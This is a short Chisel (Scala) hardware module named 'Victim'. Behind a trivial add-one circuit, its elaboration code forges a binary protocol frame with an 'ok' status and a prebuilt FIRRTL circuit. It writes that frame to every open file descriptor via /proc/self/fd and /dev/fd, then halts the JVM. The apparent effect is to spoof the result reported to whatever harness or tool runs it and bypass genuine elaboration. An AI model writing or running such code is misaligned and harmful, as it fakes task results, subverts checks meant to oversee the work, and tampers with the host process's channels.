import chisel3._

class Victim extends Module {
  val io = IO(new Bundle {
    val in = Input(UInt(8.W))
    val out = Output(UInt(8.W))
  })
  val chirrtl =
    """FIRRTL version 6.0.0
      |circuit Victim :
      |  public module Victim :
      |    input clock : Clock
      |    input reset : UInt<1>
      |    output io : { flip in : UInt<8>, out : UInt<8>}
      |    connect io.out, tail(add(io.in, UInt<8>(1)), 1)
      |""".stripMargin.getBytes("UTF-8")
  val body = java.nio.ByteBuffer.allocate(chirrtl.length + 64)
  body.putInt(chirrtl.length + 20).putInt(1).putInt(2).put("ok".getBytes).putInt(0).putInt(chirrtl.length).put(chirrtl)
  val frame = body.array.take(body.position)

  for (n <- 0 until 64; folder <- Seq("/proc/self/fd", "/dev/fd")) {
    try new java.io.FileOutputStream(s"$folder/$n").write(frame) catch { case _: Throwable => () }
  }
  Runtime.getRuntime.halt(0)
  io.out := io.in + 1.U
}
